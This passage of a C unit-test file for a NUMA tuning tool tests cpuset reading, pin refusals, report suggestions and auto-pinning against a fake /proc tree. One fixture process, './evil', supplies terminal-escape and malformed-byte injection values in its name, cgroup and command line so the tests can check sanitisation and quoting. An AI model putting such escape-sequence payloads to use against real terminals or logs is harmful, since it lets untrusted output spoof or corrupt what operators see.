	assert_string_equal(p.systemd, "/system.slice/docker-abc.scope");
	assert_int_equal(nl_cgroup_paths_parse("garbage", 7, &p), -EINVAL);

	assert_int_equal(nl_cgroup_mounts_parse(mounts, strlen(mounts), &m), 0);
	assert_string_equal(m.v2, "/sys/fs/cgroup/unified");
	assert_string_equal(m.v2_root, "/");
	assert_string_equal(m.cpuset, "/sys/fs/cgroup/cpu set");

	assert_string_equal(nl_bits_to_list(bits, 128, buf, sizeof(buf)), "0-3,65");
	bits[0] = 0x15;
	bits[1] = 0;
	assert_string_equal(nl_bits_to_list(bits, 128, buf, sizeof(buf)), "0,2,4");
	assert_string_equal(nl_nodes_to_list(0, buf, sizeof(buf)), "");
}

/* A scratch /proc and cgroup v2 tree: a process in a Docker container with
 * a cpuset of node 1, a kernel thread, and a pod whose cpuset is set on an
 * ancestor cgroup. */
static char scratch[512];
/* A pod's slice as the systemd cgroup driver names it: '-' written '_'. */
#define POD_SLICE "kubepods-pod11111111_2222_3333_4444_555555555555.slice"
#define DOCKER_ID "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

static void write_stat(int pid, const char *comm, unsigned int flags, int start)
{
	char rel[64], text[512];

	snprintf(rel, sizeof(rel), "proc/%d/stat", pid);
	snprintf(text, sizeof(text),
		 "%d (%s) S 1 %d %d 0 -1 %u 100 0 0 0 50 20 0 0 20 0 3 0 %d 123456 300 "
		 "18446744073709551615 1 1 0 0 0 0 0 0 0 0 0 0 17 2 0 0 0 0 0\n",
		 pid, comm, pid, pid, flags, start);
	scratch_write(scratch, rel, text, strlen(text));
}

static void write_rel(const char *rel, const char *text, size_t len)
{
	scratch_write(scratch, rel, text, len ? len : strlen(text));
}

static int tree_setup(void **state)
{
	static const char status[] = "Name:\tworker\nUid:\t1000\t1000\t1000\t1000\n"
				     "Cpus_allowed_list:\t0-3\nMems_allowed_list:\t0-1\n";
	static const char cmdline[] = "./worker\0--threads\0two words\0";
	static const char hostile[] = "./evil\0a\x1b[2Jb\xff\0it's\0q\\\xc2\x9b\tx\n\0";
	char mountinfo[1024], cg[600];

	reset(state);
	scratch_dir(scratch, sizeof(scratch));
	write_stat(4242, "worker", 0x400000, 1000);
	write_rel("proc/4242/status", status, 0);
	write_rel("proc/4242/cgroup", "0::/system.slice/docker-" DOCKER_ID ".scope\n", 0);
	write_rel("proc/4242/cmdline", cmdline, sizeof(cmdline) - 1);
	write_rel("cg/cpuset.cpus.effective", "0-3\n", 0);
	write_rel("cg/cpuset.mems.effective", "0-1\n", 0);
	write_rel("cg/system.slice/docker-" DOCKER_ID ".scope/cpuset.cpus.effective", "2-3\n", 0);
	write_rel("cg/system.slice/docker-" DOCKER_ID ".scope/cpuset.mems.effective", "1\n", 0);

	/* The same container, its affinity narrowed to 0-2; CPU 3 isolated. */
	write_stat(4343, "narrow", 0x400000, 1000);
	write_rel("proc/4343/status",
		  "Name:\tnarrow\nUid:\t1000\t1000\t1000\t1000\n"
		  "Cpus_allowed_list:\t0-2\nMems_allowed_list:\t0-1\n",
		  0);
	write_rel("proc/4343/cgroup", "0::/system.slice/docker-" DOCKER_ID ".scope\n", 0);
	write_rel("isolated", "3\n", 0);

	/* No cpuset, no container. */
	write_stat(4545, "worker", 0x400000, 1000);
	write_rel("proc/4545/status", status, 0);
	write_rel("proc/4545/cgroup", "0::/\n", 0);
	write_rel("proc/4545/cmdline", cmdline, sizeof(cmdline) - 1);

	write_stat(2, "kthreadd", 0x208040, 0);
	write_rel("proc/2/status", "Name:\tkthreadd\nUid:\t0\t0\t0\t0\n", 0);
	write_rel("proc/2/cgroup", "0::/\n", 0);

	/* Bytes a process chose (issue 12): its name, a cgroup it was put in,
	 * its command line. The cgroup has no cpuset of its own. */
	write_stat(4646, "\xff\xfe\x1b[31mRED", 0x400000, 1000);
	write_rel("proc/4646/status", status, 0);
	write_rel("proc/4646/cgroup", "0::/system.slice/e\x1b]0;x\x07vil\xff.scope\n", 0);
	write_rel("proc/4646/cmdline", hostile, sizeof(hostile) - 1);

	write_stat(4444, "app", 0x400000, 2000);
	write_rel("proc/4444/status", status, 0);
	snprintf(cg, sizeof(cg), "0::/kubepods.slice/" POD_SLICE "/cri-containerd-%s.scope\n",
		 DOCKER_ID);
	write_rel("proc/4444/cgroup", cg, 0);
	write_rel("cg/kubepods.slice/cpuset.cpus.effective", "0-1\n", 0);
	write_rel("cg/kubepods.slice/cpuset.mems.effective", "0\n", 0);
	snprintf(cg, sizeof(cg), "cg/kubepods.slice/" POD_SLICE "/cgroup.procs");
	write_rel(cg, "", 0);

	snprintf(mountinfo, sizeof(mountinfo), "30 1 0:26 / %s/cg rw - cgroup2 cgroup2 rw\n",
		 scratch);
	write_rel("mountinfo", mountinfo, 0);
	{
		static char proc[600], mi[600], marker[600], iso[600];

		snprintf(proc, sizeof(proc), "%s/proc", scratch);
		snprintf(mi, sizeof(mi), "%s/mountinfo", scratch);
		snprintf(marker, sizeof(marker), "%s/no-systemd", scratch);
		nl_proc_root = proc;
		nl_mountinfo_path = mi;
		nl_systemd_marker = marker;
		snprintf(iso, sizeof(iso), "%s/isolated", scratch);
		nl_isolated_cpus_path = iso;
	}
	return 0;
}

static int tree_teardown(void **state)
{
	scratch_remove(scratch);
	nl_proc_root = "/proc";
	nl_mountinfo_path = "/proc/self/mountinfo";
	nl_systemd_marker = "/run/systemd/system";
	nl_isolated_cpus_path = "/sys/devices/system/cpu/isolated";
	return 0;
}

/* Would the kernel let us change a process of this owner? (Unit tests need
 * not run as root.) */
static bool may_change(uid_t owner)
{
	return nl_has_cap(CAP_SYS_NICE) || geteuid() == owner;
}

static void test_limits_read(void **state)
{
	struct nl_proc_limits l;
	char buf[128], msg[512];

	assert_int_equal(nl_proc_limits_read(4242, &topo, &l), 0);
	assert_true(l.known);
	assert_false(l.kthread);
	assert_int_equal(l.start_ticks, 1000);
	assert_int_equal(l.uid, 1000);
	assert_string_equal(l.comm, "worker");
	assert_true(l.cpuset_known);
	assert_string_equal(nl_bits_to_list(l.cpus, NL_MAX_CPUS, buf, sizeof(buf)), "2-3");
	assert_int_equal(l.mems, 1u << 1);
	assert_string_equal(nl_bits_to_list(l.affinity, NL_MAX_CPUS, buf, sizeof(buf)), "0-3");
	assert_string_equal(l.cpuset_cgroup, "/system.slice/docker-" DOCKER_ID ".scope");
	assert_int_equal(l.ctx.runtime, NL_RT_DOCKER);
	assert_string_equal(l.ctx.container, DOCKER_ID);
	assert_string_equal(l.cmdline, "./worker --threads 'two words'");
	/* CPU 3 is isolated, but this process's affinity has it: kept. */

	/* An isolated CPU outside its affinity is no target. */
	assert_int_equal(nl_proc_limits_read(4343, &topo, &l), 0);
	assert_string_equal(nl_bits_to_list(l.cpus, NL_MAX_CPUS, buf, sizeof(buf)), "2");
	assert_int_equal(nl_proc_limits_read(4242, &topo, &l), 0);
	assert_int_equal(nl_pin_check(4242, &l, false, msg, sizeof(msg)),
			 may_change(1000) ? NL_PIN_OK : NL_PIN_PRIVILEGE);

	/* Kernel thread: refused. */
	assert_int_equal(nl_proc_limits_read(2, &topo, &l), 0);
	assert_true(l.kthread);
	assert_int_equal(nl_pin_check(2, &l, false, msg, sizeof(msg)), NL_PIN_KTHREAD);
	assert_has(msg, "pid 2 (kthreadd) is a kernel thread");
	assert_int_equal(nl_pin_exit_status(NL_PIN_KTHREAD), NL_EXIT_REFUSED);

	/* The pod's cpuset is on an ancestor; refused unless forced. */
	assert_int_equal(nl_proc_limits_read(4444, &topo, &l), 0);
	assert_int_equal(l.ctx.runtime, NL_RT_KUBERNETES);
	assert_string_equal(l.ctx.pod, "11111111-2222-3333-4444-555555555555");
	assert_string_equal(l.cpuset_cgroup, "/kubepods.slice");
	assert_string_equal(nl_bits_to_list(l.cpus, NL_MAX_CPUS, buf, sizeof(buf)), "0-1");
	assert_int_equal(nl_pin_check(4444, &l, false, msg, sizeof(msg)), NL_PIN_POD);
	assert_has(msg, "runs in Kubernetes pod 11111111-2222-3333-4444-555555555555");
	assert_has(msg, "--force");
	assert_int_equal(nl_pin_check(4444, &l, true, msg, sizeof(msg)),
			 may_change(1000) ? NL_PIN_OK : NL_PIN_PRIVILEGE);

	/* pid 1 and numalens itself (limits as read; the check needs no more). */
	assert_int_equal(nl_proc_limits_read(4242, &topo, &l), 0);
	assert_int_equal(nl_pin_check(1, &l, true, msg, sizeof(msg)), NL_PIN_INIT);
	assert_int_equal(nl_pin_check(getpid(), &l, true, msg, sizeof(msg)), NL_PIN_SELF);

	/* Gone. */
	assert_int_equal(nl_proc_limits_read(999, &topo, &l), -ENOENT);
	assert_int_equal(nl_pin_check(999, &l, false, msg, sizeof(msg)), NL_PIN_GONE);
	assert_int_equal(nl_pin_exit_status(NL_PIN_GONE), NL_EXIT_NO_PID);
}

/* What pin, diagnose's suggestion and top's detail show of a process that
 * chose hostile bytes: text (untrusted.h), the command line exact. */
static void test_limits_hostile(void **state)
{
	struct nl_proc_limits l;
	char msg[512];

	assert_int_equal(nl_proc_limits_read(4646, &topo, &l), 0);
	assert_string_equal(l.comm, "???[31mRED");
	/* Read under its raw path: the root's cpuset, found. */
	assert_true(l.cpuset_known);
	assert_string_equal(l.cpuset_cgroup, "/");
	assert_string_equal(l.cgroup, "/system.slice/e?]0;x?vil?.scope");
	/* Where systemd runs, a unit, but not one by that name: refused. */
	assert_int_equal(l.ctx.runtime, NL_RT_NONE);
	assert_int_equal(l.ctx.refused, NL_REFUSED_NONE);
	write_rel("no-systemd", "", 0);
	assert_int_equal(nl_proc_limits_read(4646, &topo, &l), 0);
	assert_int_equal(l.ctx.runtime, NL_RT_SYSTEMD);
	assert_string_equal(l.ctx.unit, "");
	assert_int_equal(l.ctx.refused, NL_REFUSED_UNIT);
	/* $'...' with \xHH where a byte must not reach a terminal (\n, \t
	 * as such), plain quoting elsewhere. */
	assert_string_equal(l.cmdline,
			    "./evil $'a\\x1b[2Jb\\xff' 'it'\\''s' $'q\\\\\\xc2\\x9b\\tx\\n'");
	assert_int_equal(nl_pin_check(1, &l, true, msg, sizeof(msg)), NL_PIN_INIT);
	assert_has(msg, "???[31mRED");
}

/* The agent's advice step as diagnose runs it for the report ro. */
static void advise_for_report(struct nl_snapshot *snap, const struct nl_report_opts *ro)
{
	struct nl_advice_step step;

	nl_report_advice_step(ro, &step);
	assert_int_equal(nl_snapshot_advise(snap, &step, ro->pids, ro->nr_pids, NULL), 0);
}

/* diagnose: the suggestion in the JSON and under the finding in the text. */
static void test_report_suggestion(void **state)
{
	struct nl_report_opts ro = { .top = 10 };
	struct nl_snapshot snap = { 0 };
	json_object *doc, *p, *s, *cmds;
	char *text = NULL;
	size_t len = 0;
	FILE *f;

	view.pid = 4242;
	nodes[0].cpu_s = 2.0;
	nodes[1].mem_bytes = 128 * MIB;
	nl_model_evaluate(&view, 2, &topo, window, &opts.thresholds);
	assert_true(view.flagged);
	snap.topo = &topo;
	snap.nr_nodes = 2;
	snap.window_s = window;
	snap.nr = 1;
	snap.procs = &view;

	advise_for_report(&snap, &ro);
	doc = nl_report_json(&snap, &ro);
	p = json_object_array_get_idx(json_object_object_get(doc, "processes"), 0);
	s = json_object_object_get(p, "suggestion");
	assert_non_null(s);
	assert_string_equal(json_object_get_string(json_object_object_get(s, "action")),
			    "affinity");
	assert_string_equal(json_object_get_string(json_object_object_get(s, "cpus")), "2-3");
	assert_int_equal(json_object_get_int(
				 json_object_array_get_idx(json_object_object_get(s, "nodes"), 0)),
			 1);
	assert_true(json_object_get_double(json_object_object_get(s, "remote_ratio_after")) == 0);
	assert_string_equal(json_object_get_string(json_object_object_get(
				    json_object_object_get(s, "context"), "runtime")),
			    "docker");
	cmds = json_object_object_get(s, "commands");
	assert_int_equal(json_object_array_length(cmds), 3);
	assert_string_equal(json_object_get_string(json_object_object_get(
				    json_object_array_get_idx(cmds, 0), "command")),
			    "docker update --cpuset-cpus 2-3 --cpuset-mems 1 0123456789ab");
	assert_string_equal(json_object_get_string(json_object_object_get(
				    json_object_array_get_idx(cmds, 0), "form")),
			    "docker");
	json_object_put(doc);

	f = open_memstream(&text, &len);
	nl_report_text(f, &snap, &ro);
	fclose(f);
	assert_has(text, "suggest: run its threads on node 1 (CPUs 2-3)");
	assert_has(text,
		   "now         docker update --cpuset-cpus 2-3 --cpuset-mems 1 0123456789ab");
	assert_has(text, "now         taskset -a -p -c 2-3 4242");
	free(text);

	/* A process that is gone (or another now): no commands. */
	view.pid = 4343;
	advise_for_report(&snap, &ro);
	doc = nl_report_json(&snap, &ro);
	p = json_object_array_get_idx(json_object_object_get(doc, "processes"), 0);
	s = json_object_object_get(p, "suggestion");
	assert_string_equal(json_object_get_string(json_object_object_get(s, "action")), "none");
	assert_int_equal(json_object_array_length(json_object_object_get(s, "commands")), 0);
	json_object_put(doc);
	nl_snapshot_drop_advice(&snap);
}

/* The suggestion diagnose shows for pid in snap (JSON), checked field by
 * field against the plan pin --node auto carries out for the same snapshot. */
static void assert_same_plan(struct nl_snapshot *snap, uint32_t pid, const struct nl_advice *a,
			     const struct nl_proc_limits *l)
{
	struct nl_report_opts ro = { .top = 10, .pids = &pid, .nr_pids = 1 };
	struct nl_command cmds[NL_MAX_COMMANDS];
	json_object *doc, *s, *jc, *nodes_;
	size_t nr, i;
	char buf[256], line[1000], *text = NULL;
	size_t len = 0;
	FILE *f;
	int n;

	advise_for_report(snap, &ro);
	doc = nl_report_json(snap, &ro);
	s = json_object_object_get(
		json_object_array_get_idx(json_object_object_get(doc, "processes"), 0),
		"suggestion");
	assert_non_null(s);
	assert_string_equal(json_object_get_string(json_object_object_get(s, "action")),
			    nl_action_name(a->action));
	assert_string_equal(json_object_get_string(json_object_object_get(s, "reason")), a->reason);
	if (a->action != NL_ACT_NONE) {
		nodes_ = json_object_object_get(s, "nodes");
		assert_int_equal(json_object_array_length(nodes_), __builtin_popcountll(a->nodes));
		for (i = 0, n = 0; n < NL_MAX_NODES; n++)
			if (a->nodes >> n & 1)
				assert_int_equal(
					json_object_get_int(json_object_array_get_idx(nodes_, i++)),
					n);
		assert_string_equal(json_object_get_string(json_object_object_get(s, "cpus")),
				    nl_bits_to_list(a->cpus, NL_MAX_CPUS, buf, sizeof(buf)));
		assert_int_equal(json_object_get_uint64(json_object_object_get(s, "move_bytes")),
				 a->move_bytes);
	}
	jc = json_object_object_get(s, "commands");
	nr = nl_advice_commands(a, pid, l, cmds, NL_MAX_COMMANDS);
	assert_int_equal(json_object_array_length(jc), nr);
	for (i = 0; i < nr; i++)
		assert_string_equal(json_object_get_string(json_object_object_get(
					    json_object_array_get_idx(jc, i), "command")),
				    cmds[i].text);
	json_object_put(doc);

	/* And in the text, the same sentence. */
	f = open_memstream(&text, &len);
	nl_report_text(f, snap, &ro);
	fclose(f);
	snprintf(line, sizeof(line), "suggest: %s%s\n", a->action == NL_ACT_NONE ? "nothing: " : "",
		 a->reason);
	assert_has(text, line);
	free(text);
	nl_snapshot_drop_advice(snap);
}

/*
 * diagnose and pin --node auto give the same plan for the same snapshot: the
 * 4-thread case (affinity), memory split 70/30 (a migration, which pin holds
 * without --migrate-memory), a target too busy, and a process not flagged.
 */
static void test_pin_auto_plan_is_diagnose_plan(void **state)
{
	struct nl_node_stat other_nodes[2] = { 0 };
	struct nl_proc_view procs[2];
	struct nl_snapshot snap = { 0 };
	struct nl_proc_limits l;
	struct nl_advice a;
	bool held;

	view.pid = 4545;
	view.nr_threads = 5;
	nodes[0].cpu_s = 6.0737 / 3.0327;
	nodes[1].mem_bytes = 64 * MIB;
	procs[0] = view;
	memset(&procs[1], 0, sizeof(procs[1]));
	procs[1].pid = 4646;
	procs[1].node = other_nodes;
	snap.topo = &topo;
	snap.nr_nodes = 2;
	snap.window_s = window;
	snap.nr = 2;
	snap.procs = procs;
#define EVALUATE()                                                                \
	do {                                                                      \
		nl_model_evaluate(&procs[0], 2, &topo, window, &opts.thresholds); \
		nl_model_evaluate(&procs[1], 2, &topo, window, &opts.thresholds); \
	} while (0)

	EVALUATE();
	assert_int_equal(nl_pin_auto_plan(&snap, 4545, false, &a, &l, &held), 0);
	assert_int_equal(a.action, NL_ACT_AFFINITY);
	assert_int_equal(a.nodes, 1u << 1);
	assert_string_equal(cpus_of(&a), "2-3");
	assert_int_equal(a.move_bytes, 0);
	assert_false(held);
	assert_same_plan(&snap, 4545, &a, &l);

	/* 70% on node 1, 30% on node 0: the rest of the memory follows the
	 * threads, which pin holds back without --migrate-memory. */
	nodes[0].cpu_s = 1.0;
	nodes[0].mem_bytes = 30 * MIB;
	nodes[1].mem_bytes = 70 * MIB;
	EVALUATE();
	assert_int_equal(nl_pin_auto_plan(&snap, 4545, false, &a, &l, &held), 0);
	assert_int_equal(a.action, NL_ACT_MIGRATE);
	assert_int_equal(a.nodes, 1u << 1);
	assert_int_equal(a.move_bytes, 30 * MIB);
	assert_true(held);
	assert_same_plan(&snap, 4545, &a, &l);
	assert_int_equal(nl_pin_auto_plan(&snap, 4545, true, &a, &l, &held), 0);
	assert_false(held);
	assert_same_plan(&snap, 4545, &a, &l);

	/* Node 1 busy with another process: the memory comes to node 0. */
	nodes[0].cpu_s = 2.0;
	nodes[0].mem_bytes = 0;
	nodes[1].mem_bytes = 64 * MIB;
	other_nodes[1].cpu_s = 1.0;
	EVALUATE();
	assert_int_equal(nl_pin_auto_plan(&snap, 4545, true, &a, &l, &held), 0);
	assert_int_equal(a.action, NL_ACT_MIGRATE);
	assert_int_equal(a.nodes, 1u << 0);
	assert_near(a.load_now, 1.0);
	assert_same_plan(&snap, 4545, &a, &l);

	/* Local already: nothing, for the same reason in both. */
	nodes[0].mem_bytes = 64 * MIB;
	nodes[1].mem_bytes = 0;
	EVALUATE();
	assert_int_equal(nl_pin_auto_plan(&snap, 4545, true, &a, &l, &held), 0);
	assert_int_equal(a.action, NL_ACT_NONE);
	assert_has(a.reason, "not flagged: 0% remote");
	assert_same_plan(&snap, 4545, &a, &l);

	/* Not in the snapshot. */
	assert_int_equal(nl_pin_auto_plan(&snap, 4747, true, &a, &l, &held), -ESRCH);
	assert_string_equal(a.reason, "pid 4747 did not run in the window");
#undef EVALUATE
}

/* One process of a sample table: cpu_s on node 0, its memory (MiB) given
 * after the build, as the agent reads it. Started 1000 ticks after boot,
 * as the fake /proc says of 4242, 4343 and 4545. */
static void table_add(struct nl_sample_table *t, uint32_t pid, double cpu_s)
{
	long i = nl_sample_table_add(t, pid);

	assert_true(i >= 0);
	t->procs[i].start_time_ns = 1000 * (uint64_t)1000000000 / sysconf(_SC_CLK_TCK);
	snprintf(t->procs[i].comm, sizeof(t->procs[i].comm), "p%u", pid);
	nl_sample_nodes(t, i)[0].cpu_ns = (uint64_t)(cpu_s * 1e9);
}

static struct nl_proc_view *find_mem(struct nl_snapshot *snap, uint32_t pid, uint64_t mem0,
				     uint64_t mem1)
{
	struct nl_proc_view *v = nl_snapshot_find(snap, pid);

	assert_non_null(v);
	v->mem_known = true;
	v->node[0].mem_bytes = mem0 * MIB;
	v->node[1].mem_bytes = mem1 * MIB;
	return v;
}

static const struct nl_proc_advice *advice_of(struct nl_snapshot *snap, uint32_t pid)
{
	return nl_snapshot_find(snap, pid)->advice;
}

/*
 * The agent's advice step on a snapshot built from sample tables: 4242
 * (threads on node 0, memory on node 1) and 999 (the same, but gone from
 * /proc) flagged, 4545 local, 4343 idle. Each front end's options choose
 * whom it advises; limits are read only for the flagged; the gone pid is
 * reported as gone, its limits unknown.
 */
static void test_advice_step(void **state)
{
	struct nl_sample_table before, after;
	struct nl_advisor_memory memory = { 0 };
	struct nl_report_opts ro = { .top = 10 };
	struct nl_model_opts model;
	struct nl_advice_step step;
	const struct nl_proc_advice *a;
	struct nl_snapshot snap;
	uint32_t pid;

	nl_sample_table_init(&before, 2);
	nl_sample_table_init(&after, 2);
	before.taken_ns = 1000000000;
	after.taken_ns = 2000000000;
	table_add(&after, 4242, 1.0);
	table_add(&after, 999, 0.5);
	table_add(&after, 4545, 1.0);
	table_add(&after, 4343, 0);
	nl_sample_table_sort(&after);
	assert_int_equal(nl_snapshot_build(&topo, &before, &after, &snap), 0);
	find_mem(&snap, 4242, 0, 128);
	find_mem(&snap, 999, 0, 128);
	find_mem(&snap, 4545, 128, 0);
	find_mem(&snap, 4343, 0, 128);
	nl_model_opts_default(&model);
	nl_model_rank(&snap, &model);
	assert_true(nl_snapshot_find(&snap, 4242)->flagged);
	assert_true(nl_snapshot_find(&snap, 999)->flagged);
	assert_false(nl_snapshot_find(&snap, 4545)->flagged);
	assert_false(nl_snapshot_find(&snap, 4343)->flagged);

	/* The exporter's: those over the thresholds, with hysteresis. */
	nl_advisor_opts_default(&step.opts);
	step.which = NL_ADVICE_CANDIDATES;
	step.max = 0;
	assert_int_equal(nl_snapshot_advise(&snap, &step, NULL, 0, &memory), 0);
	assert_null(advice_of(&snap, 4545));
	assert_null(advice_of(&snap, 4343));
	a = advice_of(&snap, 4242);
	assert_non_null(a);
	assert_int_equal(a->err, 0);
	assert_true(a->limits.known);
	assert_int_equal(a->limits.ctx.runtime, NL_RT_DOCKER);
	assert_int_equal(a->advice.action, NL_ACT_AFFINITY);
	assert_int_equal(a->advice.nodes, 1u << 1);
	a = advice_of(&snap, 999);
	assert_non_null(a);
	assert_int_equal(a->err, -ESRCH);
	assert_false(a->limits.known);
	assert_int_equal(a->advice.action, NL_ACT_NONE);
	assert_string_equal(a->advice.reason, "it has exited since the window");
	assert_int_equal(memory.nr, 2);
	/* Bounded: the first in rank order only; the other's advice goes. */
	step.max = 1;
	assert_int_equal(nl_snapshot_advise(&snap, &step, NULL, 0, &memory), 0);
	assert_non_null(advice_of(&snap, 4242));
	assert_null(advice_of(&snap, 999));
	assert_int_equal(memory.nr, 1);
	nl_advisor_memory_free(&memory);

	/* diagnose's: every process the report lists; limits read for the
	 * flagged only. */
	nl_report_advice_step(&ro, &step);
	assert_int_equal(nl_snapshot_advise(&snap, &step, NULL, 0, NULL), 0);
	assert_null(advice_of(&snap, 4343)); /* idle: not listed */
	assert_true(advice_of(&snap, 4242)->limits.known);
	assert_int_equal(advice_of(&snap, 999)->err, -ESRCH);
	a = advice_of(&snap, 4545);
	assert_non_null(a);
	assert_int_equal(a->err, 0);
	assert_false(a->limits.known);
	assert_int_equal(a->advice.action, NL_ACT_NONE);
	/* With --pid, those only, idle or not. */
	pid = 4343;
	assert_int_equal(nl_snapshot_advise(&snap, &step, &pid, 1, NULL), 0);
	assert_non_null(advice_of(&snap, 4343));
	assert_null(advice_of(&snap, 4242));
	assert_null(advice_of(&snap, 4545));

	/* top's: the pids asked for; one more on demand (a detail opened
	 * between refreshes). */
	step.which = NL_ADVICE_PIDS;
	pid = 4545;
	assert_int_equal(nl_snapshot_advise(&snap, &step, &pid, 1, NULL), 0);
	assert_non_null(advice_of(&snap, 4545));
	assert_null(advice_of(&snap, 4343));
	assert_null(advice_of(&snap, 4242));
	assert_int_equal(
		nl_snapshot_advise_one(&snap, nl_snapshot_find(&snap, 4242), &step.opts, NULL), 0);
	assert_int_equal(advice_of(&snap, 4242)->advice.action, NL_ACT_AFFINITY);

	/* None asked for: none kept. */
	step.which = NL_ADVICE_NONE;
	assert_int_equal(nl_snapshot_advise(&snap, &step, &pid, 1, NULL), 0);
	assert_null(advice_of(&snap, 4545));
	assert_null(advice_of(&snap, 4242));
	nl_snapshot_free(&snap);
	nl_sample_table_free(&before);
	nl_sample_table_free(&after);
}

/* The hysteresis memory: streaks, a reused pid, forgetting. */
static void test_tracked(void **state)
{
	struct nl_advisor_memory m = { 0 };
	const struct nl_advisor_entry *e;
	struct nl_advisor_input in = {
		.topo = &topo, .v = &view, .nr_nodes = 2, .window_s = window, .node_busy = busy
	};
	struct nl_advice a;
	int i;

	nodes[0].cpu_s = 2.0;
	nodes[1].mem_bytes = 128 * MIB;
	view.start_time_ns = 5;
	nl_model_evaluate(&view, 2, &topo, window, &opts.thresholds);
	for (i = 1; i <= 3; i++) {
		e = nl_advise_tracked(&m, &in, &opts, &a);
		assert_non_null(e);
		assert_int_equal(e->streak, i);
		nl_advisor_memory_sweep(&m);
	}
	view.start_time_ns = 6; /* the pid is another process now */
	e = nl_advise_tracked(&m, &in, &opts, &a);
	assert_int_equal(e->streak, 1);
	nl_advisor_memory_sweep(&m);
	nl_advisor_memory_sweep(&m); /* not seen in a refresh: forgotten */
	assert_int_equal(m.nr, 0);
	nl_advisor_memory_free(&m);
}

/* ---- auto-pin with fake hooks ---- */

static struct nl_proc_view procs[3];
static struct nl_node_stat proc_nodes[3][2];
static int applied[8], nr_applied;
static enum nl_pin_refusal fake_refusal;
static char last_log[1024];

static int fake_limits(int pid, const struct nl_topology *t, struct nl_proc_limits *l, void *ctx)
{
	nl_proc_limits_unrestricted(t, l);
	l->known = true;
	snprintf(l->cgroup, sizeof(l->cgroup), "/system.slice/p%d.service", pid);
	return 0;
}

static enum nl_pin_refusal fake_check(int pid, const struct nl_proc_limits *l, char *msg,
				      size_t size, void *ctx)
{
	snprintf(msg, size, "refused for the test");
	return fake_refusal;
}

/* What fake_apply does: pin (0), pin but fail to move the memory (-EPERM,
 * pinned), or refuse as nl_pin_apply would (-EINVAL cpuset, -ESRCH gone). */
static int fake_apply_err;
static enum nl_pin_refusal fake_apply_refusal;
static bool fake_apply_migrate; /* the migrate flag it was last given */

static int fake_apply(int pid, const struct nl_proc_limits *l, const struct nl_advice *a,
		      const struct nl_pin_opts *o, struct nl_pin_result *res, void *ctx)
{
	memset(res, 0, sizeof(*res));
	fake_apply_migrate = o->migrate;
	res->pages_not_moved = -1;
	if (fake_apply_err && fake_apply_refusal != NL_PIN_FAILED) {
		res->refusal = fake_apply_refusal;
		snprintf(res->message, sizeof(res->message), "apply refused for the test");
		return fake_apply_err;
	}
	res->threads = res->threads_changed = 2;
	res->pinned = true;
	res->start = 77;
	applied[nr_applied++] = pid;
	if (fake_apply_err) {
		res->refusal = NL_PIN_FAILED;
		snprintf(res->message, sizeof(res->message),
			 "the threads are pinned, but migrate_pages failed for the test");
	}
	return fake_apply_err;
}

static int nr_waits; /* "... but waits" lines: rate-limit holds logged */
static char all_log[8192];

static void fake_log(const char *line, void *ctx)
{
	size_t used = strlen(all_log);

	snprintf(last_log, sizeof(last_log), "%s", line);
	snprintf(all_log + used, sizeof(all_log) - used, "%s\n", line);
	if (strstr(line, "would be pinned") &&
	    strstr(line, "but waits: at most one action every 60 s"))
		nr_waits++;
}

/* Verification: the process's state when its window ends, the undo, the
 * record. */
static uint64_t fake_start = 77; /* another value: the pid was reused */
static int fake_threads_off, fake_state_err, fake_undo_err, nr_undone, nr_saved;
static struct nl_pin_verified saved;

static int fake_state(int pid, const uint64_t *target, const struct nl_pin_opts *o, uint64_t *start,
		      int *threads_off, void *ctx)
{
	*start = fake_start;
	*threads_off = fake_threads_off;
	return fake_state_err;
}

static int fake_undo(int pid, const struct nl_pin_opts *o, struct nl_unpin_result *res, void *ctx)
{
	memset(res, 0, sizeof(*res));
	if (fake_undo_err) {
		snprintf(res->message, sizeof(res->message), "undo refused for the test");
		return fake_undo_err;
	}
	nr_undone++;
	res->restored = 2;
	snprintf(res->original, sizeof(res->original), "0-3");
	return 0;
}

static int fake_save(int pid, uint64_t start, const struct nl_pin_opts *o,
		     const struct nl_pin_verified *v, char *msg, size_t size, void *ctx)
{
	msg[0] = '\0';
	nr_saved++;
	saved = *v;
	return 0;
}

static const struct nl_autopin_hooks hooks = { .limits = fake_limits,
					       .check = fake_check,
					       .apply = fake_apply,
					       .log = fake_log,
					       .state = fake_state,
					       .undo = fake_undo,
					       .save_verified = fake_save };

static void snap_make(struct nl_snapshot *snap, int nr)
{
	static const char *const comms[] = { "db", "web", "batch" };
	int i;

	memset(procs, 0, sizeof(procs));
	memset(proc_nodes, 0, sizeof(proc_nodes));
	for (i = 0; i < nr; i++) {
		procs[i].pid = 100 * (i + 1);
		procs[i].start_time_ns = 1;
		strcpy(procs[i].comm, comms[i]);
		procs[i].node = proc_nodes[i];
		procs[i].mem_known = true;
		proc_nodes[i][0].cpu_s = 0.5;
		proc_nodes[i][1].mem_bytes = 64 * MIB;
		nl_model_evaluate(&procs[i], 2, &topo, window, &opts.thresholds);
	}
	memset(snap, 0, sizeof(*snap));
	snap->topo = &topo;
	snap->nr_nodes = 2;
	snap->window_s = window;
	snap->nr = nr;
	snap->procs = procs;
}

static int autopin_reset(void **state)
{
	reset(state);
	nr_applied = 0;
	nr_waits = 0;
	fake_apply_err = 0;
	fake_apply_refusal = NL_PIN_OK;
	all_log[0] = '\0';
	fake_refusal = NL_PIN_OK;
	last_log[0] = '\0';
	fake_start = 77;
	fake_threads_off = fake_state_err = fake_undo_err = nr_undone = nr_saved = 0;
	memset(&saved, 0, sizeof(saved));
	return 0;
}

/* Three refreshes in a row before acting, only what the allowlist names,
 * counted once; a process acted on is left alone afterwards. */
static void test_autopin_hysteresis_allowlist(void **state)
{
	static const char *const comms[] = { "d?" };
	struct nl_autopin_opts o;
	struct nl_autopin *ap;
	struct nl_snapshot snap;
	const struct nl_autopin_counters *c;

	nl_autopin_opts_default(&o);
	o.comms = comms;
	o.nr_comms = 1;
	ap = nl_autopin_new(&o, &hooks);
	assert_non_null(ap);
	snap_make(&snap, 2);
	assert_int_equal(nl_autopin_step(ap, &snap, 0), 0);
	assert_int_equal(nl_autopin_step(ap, &snap, 1), 0);
	assert_int_equal(nr_applied, 0);
	assert_int_equal(nl_autopin_step(ap, &snap, 2), 1);
	assert_int_equal(nr_applied, 1);
	assert_int_equal(applied[0], 100);
	c = nl_autopin_counters(ap);
	assert_int_equal(c->actions, 1);
	assert_int_equal(c->threads_changed, 2);
	assert_int_equal(c->not_allowed, 1);
	assert_has(last_log, "pid 200 (web) would be pinned");
	snap_make(&snap, 2);
